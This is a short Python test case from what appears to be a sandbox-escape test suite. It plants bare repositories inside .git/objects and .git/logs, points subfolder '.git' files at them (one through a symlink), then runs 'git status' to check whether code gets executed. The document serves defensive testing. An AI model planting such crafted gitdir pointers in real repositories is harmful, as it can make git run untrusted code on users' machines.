"""
id: c-objects-pointer
class: c
title: a .git file that names a repository among git's own objects
source: variation on Gitlawb/zero#808; found while testing hold
"""
from esc import *


def attack(x):
    for place, pointer in ((".git/objects/ab/evil", "sub/.git"), (".git/logs/evil", "sub2/.git")):
        x.bare_repo(x.p(place))
        x.put(x.p(pointer), "gitdir: %s\n" % x.p(place))
    x.attempt(os.symlink, x.p(".git/objects"), x.p("way"))
    x.put(x.p("sub3/.git"), "gitdir: ../way/ab/evil\n")


def verdict(x):
    for name in ("sub", "sub2", "sub3"):
        x.sh("git", "status", cwd=x.p(name))
    return x.executed()


main(globals())
